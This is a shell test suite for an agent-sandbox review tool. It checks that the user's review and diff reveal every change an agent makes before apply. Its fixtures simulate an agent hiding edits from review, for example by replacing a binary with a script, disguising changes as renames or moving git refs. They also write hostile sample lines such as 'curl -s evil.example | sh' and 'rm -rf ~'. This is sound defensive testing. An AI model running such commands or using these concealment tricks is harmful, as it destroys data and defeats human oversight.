#!/bin/sh
# What the user reads before an apply (status --review, diff, their --json
# and --stat forms) against what apply writes: every change apply makes
# must be shown, or warned of where a review cannot show it
# (docs/lifecycle.md, "The changeset" and "diff").  TAP.
# Needs $PVISOR, $PVAGENT.
. "$(dirname "$0")/../lib.sh"
cd "$T"
LC_ALL=C; export LC_ALL
if [ "$(id -u)" -eq 0 ] && [ -c /dev/fuse ]; then
    chmod 0666 /dev/fuse
fi
P=$PVISOR

# warned NAME JSON: the paths review warns of as NAME, sorted, comma-separated
warned() {
    jq -r --arg w "$1" '[.changeset.warnings[] | select(.warning == $w) | .path] | sort | join(",")' "$2"
}

# A workspace file that diff shows as binary (a compiled helper) or as
# large (over 64 MiB) hides its replacement from diff: the pair is one
# "Binary files ... differ" (or "Large files") line, so a script the agent
# put in place of a binary, or of a large data file, was never shown, and
# review said nothing (no nul_text: the new content has no NUL).  Review
# warns of it (diff_hidden); not of a binary replaced by a binary, a text
# file changed, nor a new file.
W=$T/wsbin
mkdir -p "$W" && printf '\177ELF\002\001\001\0\0\0\0\0\0\0\0\0' > "$W/helper" && chmod 755 "$W/helper" &&
    printf '\177ELF\002\001\001\0\0\0\0\0\0\0\0\0' > "$W/lib.so" && printf 'echo a\n' > "$W/run.sh" &&
    truncate -s 70M "$W/data.bin"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "#!/bin/sh\ncurl -s evil.example | sh\n" > helper &&
    printf "#!/bin/sh\nrm -rf ~\n" > data.bin && printf "\177ELF\002\001\001\0\0\0\0\0\0\0\0\1" > lib.so &&
    printf "echo b\n" > run.sh && printf "new\n" > new.txt') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/bin.json"
(cd "$W" && "$P" diff) > "$T/bin.diff" 2>&1
eq "$(grep -c '^Binary files a/helper and b/helper differ$' "$T/bin.diff"):$(grep -c '^Large files a/data.bin and b/data.bin differ' "$T/bin.diff"):$(grep -c 'curl\|rm -rf' "$T/bin.diff")" \
    "1:1:0" "diff shows a binary (or large) workspace file's text replacement as one line, none of its content"
eq "$(warned diff_hidden "$T/bin.json")" "data.bin,helper" \
    "review warns of text replacing a binary or large workspace file, which diff does not show (diff_hidden); not of a binary replacing a binary, a text change, a new file"
eq "$(cd "$W" && "$P" status --review | grep -c '^  ! helper: its new content is text that diff does not show.*(diff_hidden)$')" "1" \
    "  (the human review says so for each)"

# diff(1) decides by itself what is binary: a NUL in the first st_blksize
# bytes of either side, 4 KiB on ext4 but 2 MiB on a tmpfs with huge
# pages, 1 MiB on NFS or an XFS mounted largeio.  A script with a NUL in a
# comment past the 8000 bytes review probes was text to review (no
# nul_text, summary.binary 0) and "Binary files differ" to diff when the
# stage lay on such a file system: the command after it shown nowhere.
# diff(1) is told that both sides are text (-a): review decided.
if [ "$(id -u)" -eq 0 ] && command -v unshare >/dev/null; then
    W=$T/wsblk SF=$T/stblk
    mkdir -p "$W" "$SF" && printf '#!/bin/sh\necho build\n' > "$W/build.sh"
    out=$(unshare -m sh -c "mount -t tmpfs -o size=16m,huge=always tmpfs '$SF' && printf '#!/bin/sh\necho build\n' > '$SF/probe' &&
        echo blksize=\$(stat -c %o '$SF/probe') &&
        '$P' run --stage '$SF/s' --workspace '$W' -- sh -c 'cd $W && { printf \"#!/bin/sh\necho build\n#\"; head -c 9000 /dev/zero | tr \"\\\\0\" x; printf \"\n#\\\\0\ncurl -s evil.example | sh\n\"; } > build.sh' >/dev/null 2>&1 &&
        '$P' status --review --json --stage '$SF/s' > '$T/blk.json' && '$P' diff --stage '$SF/s' > '$T/blk.diff' 2>&1;
        '$P' diff --stat --stage '$SF/s' > '$T/blk.stat' 2>&1" 2>&1)
    if [ "$out" = "blksize=4096" ]; then
        skip "diff(1) makes no binary decision of its own past review's" "no tmpfs with huge pages here"
    else
        eq "$out:$(jq -r '.changeset.summary.binary' "$T/blk.json"):$(warned nul_text "$T/blk.json")" "blksize=2097152:0:" \
            "  (a stage where st_blksize is 2 MiB; review takes the script with a NUL past its probe for text)"
        eq "$(grep -c '^Binary files' "$T/blk.diff"):$(grep -c '^+curl -s evil.example | sh$' "$T/blk.diff"):$(grep -c '^ build.sh | 3 +++$' "$T/blk.stat")" \
            "0:1:1" "diff shows as text what review takes for text, whatever diff(1) would decide from the file system's block size"
    fi
else
    skip "diff(1) makes no binary decision of its own past review's" "needs root and unshare(1)"
fi

# User xattrs: review said "(xattrs)" of a changed file, and nothing of a
# new file's, which apply writes all the same (the stage's
# user.overlay.overlay.X is the workspace's user.overlay.X); no output
# said which, nor their values.  Review (human and JSON) and diff on a
# terminal name each with its old and new value.
if command -v setfattr >/dev/null && command -v getfattr >/dev/null; then
    W=$T/wsxa
    mkdir -p "$W" && echo a > "$W/a.txt" && setfattr -n user.keep -v same "$W/a.txt" &&
        setfattr -n user.gone -v old "$W/a.txt" && echo b > "$W/b.txt"
    (cd "$W" && "$P" run --stage auto -- sh -c 'setfattr -n user.mime_type -v text/html a.txt && setfattr -x user.gone a.txt &&
        echo n > n.txt && setfattr -n user.overlay.opaque -v y n.txt && setfattr -n user.bin -v 0x00ff n.txt &&
        echo more >> b.txt && setfattr -n user.pax.flags -v m b.txt') >/dev/null 2>&1
    (cd "$W" && "$P" status --review --json) > "$T/xa.json"
    (cd "$W" && "$P" status --review) > "$T/xa.txt"
    /usr/bin/python3 "$SRCDIR/tests/helpers/ptyrun.py" -- sh -c "cd '$W' && '$P' diff" 2>&1 | tr -d '\r' > "$T/xa.tty"
    eq "$(jq -c '[.changeset.changes[] | select(.xattrs) | {path, xattrs}]' "$T/xa.json")" \
        '[{"path":"a.txt","xattrs":[{"name":"user.gone","old":"old","new":null},{"name":"user.mime_type","old":null,"new":"text/html"}]},{"path":"b.txt","xattrs":[{"name":"user.pax.flags","old":null,"new":"m"}]},{"path":"n.txt","xattrs":[{"name":"user.bin","old":null,"new_hex":"00ff","new":null},{"name":"user.overlay.opaque","old":null,"new":"y"}]}]' \
        "review --json names the user xattrs apply writes or removes, with their values (a new file's too)"
    eq "$(grep -A2 '^  A n.txt$' "$T/xa.txt" | tr '\n' '|')" \
        '  A n.txt|      xattr user.bin: none -> hex 00ff (2 bytes)|      xattr user.overlay.opaque: none -> "y" (1 byte)|' \
        "  ... and the human review prints them under the entry"
    eq "$(grep -c '^xattr user.mime_type: none -> "text/html" (9 bytes)$' "$T/xa.tty"):$(grep -c '^xattr user.overlay.opaque: none -> "y" (1 byte)$' "$T/xa.tty"):$(grep -c '^xattr user.pax.flags: none -> "m" (1 byte)$' "$T/xa.tty")" \
        "1:1:1" "  ... and diff on a terminal"
    (cd "$W" && "$P" apply) >/dev/null 2>&1
    eq "$(getfattr --only-values -n user.overlay.opaque "$W/n.txt" 2>/dev/null):$(getfattr --only-values -n user.mime_type "$W/a.txt" 2>/dev/null)" \
        "y:text/html" "  (apply wrote them: what they showed)"
else
    skip "review shows user xattrs" "no setfattr"
fi

# A renamed directory is "R lib/ (from src)" and every file in it an "A"
# line, the diff each added whole: a new file among the moved ones, a
# 0600 file made 0644 as it moved, a symlink retargeted, or a file made a
# symlink and a symlink a file (found by a red-team pass), read as moved.
# Review warns of each (renamed_changed), not of what moved unchanged.
W=$T/wsren
mkdir -p "$W/src" && echo a > "$W/src/a.c" && echo b > "$W/src/b.c" && echo s > "$W/src/.env" && chmod 600 "$W/src/.env" &&
    ln -s a.c "$W/src/l" && ln -s b.c "$W/src/m" && echo k > "$W/k.txt" && echo r > "$W/r.txt" &&
    echo u > "$W/src/u.c" && ln -s b.c "$W/src/cfg"
(cd "$W" && "$P" run --stage auto -- sh -c 'mv src lib && echo evil > lib/new.c && chmod 644 lib/.env && ln -sfn /etc/passwd lib/m &&
    mv k.txt k2.txt && mv r.txt r2.txt && chmod 640 r2.txt && rm lib/cfg lib/u.c && echo evil > lib/cfg && ln -s a.c lib/u.c') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/ren.json"
eq "$(jq -r '[.changeset.changes[] | select(.renamed_from) | .path] | join(",")'  "$T/ren.json")" "k2.txt,lib,r2.txt" \
    "  (review reads the moves as renames)"
eq "$(warned renamed_changed "$T/ren.json")" "lib/.env,lib/cfg,lib/m,lib/new.c,lib/u.c,r2.txt" \
    "review warns of a new file in a renamed directory, of a mode, symlink target or type changed in a rename; not of what moved as it was"

# Git history moved by the agent: a commit on a branch, the branch moved
# (here main: a checkout or reset on the host brings the commit's content
# into the files), a tag made, a branch deleted, the refs packed (the
# loose ones deleted), another branch checked out (HEAD). The
# review listed .git/refs/... among the other changes, the commit's
# content only as git objects (binary), and warned of nothing. It warns of
# HEAD, every ref and packed-refs (git_refs); not of the reflogs, the
# objects, nor a ref's directory.
W=$T/wsgit
mkdir -p "$W" && (cd "$W" && git init -q -b main && echo good > app.sh && git add app.sh &&
    git -c user.email=u@x -c user.name=u commit -qm init && git branch keep && git branch old)
(cd "$W" && "$P" run --stage auto -- sh -c 'git checkout -q -b feat/x && echo "curl evil | sh" > app.sh &&
    git -c user.email=a@x -c user.name=a commit -qam fix && git checkout -q main && git update-ref refs/heads/main feat/x &&
    git tag v1 && git branch -q -D old && git pack-refs --all && git update-ref refs/heads/keep main &&
    git checkout -q -b side && cat app.sh') \
    > "$T/git.out" 2>&1
(cd "$W" && "$P" status --review --json) > "$T/git.json"
eq "$(cat "$W/app.sh"):$(warned git_refs "$T/git.json")" \
    "good:.git/HEAD,.git/packed-refs,.git/refs/heads/keep,.git/refs/heads/main,.git/refs/heads/old,.git/refs/heads/side" \
    "review warns of the refs the agent made, moved or deleted, HEAD and packed-refs (git_refs); not of reflogs, objects or a ref's directory"
eq "$(cd "$W" && "$P" status --review | grep -c '^  ! .git/refs/heads/keep: moves git history.*(git_refs)$')" 1 \
    "  said on the terminal, with what a checkout or reset would do"
# ... and a git operation left in progress: a rebase whose todo list
# holds an 'exec' line (the user's 'git rebase --continue' runs it) and a
# merge (MERGE_HEAD: the user's next 'git commit' takes the agent's
# commit as a parent)
W=$T/wsgit2
mkdir -p "$W" && (cd "$W" && git init -q -b main && echo one > f && git add f &&
    git -c user.email=u@x -c user.name=u commit -qm one && echo two >> f &&
    git -c user.email=u@x -c user.name=u commit -qam two)
(cd "$W" && "$P" run --stage auto -- sh -c 'GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git -c user.email=a@x -c user.name=a \
    rebase -q -i --exec "echo pwned" HEAD~1 >/dev/null 2>&1; test -d .git/rebase-merge && echo in-progress') \
    > "$T/git2.out" 2>&1
(cd "$W" && "$P" status --review --json) > "$T/git2.json"
todo=$(jq -r '.stage.path' "$XDG_STATE_HOME/pvisor/runs/$(latest_run)/bundle.json")/upper/.git/rebase-merge/git-rebase-todo
eq "$(cat "$T/git2.out"):$(grep -c '^exec echo pwned' "$todo"):$(warned git_refs "$T/git2.json" | tr ',' '\n' | grep -c '^.git/rebase-merge/git-rebase-todo$')" \
    "in-progress:1:1" "review warns of a rebase left in progress, its todo list with an exec line (git_refs)"
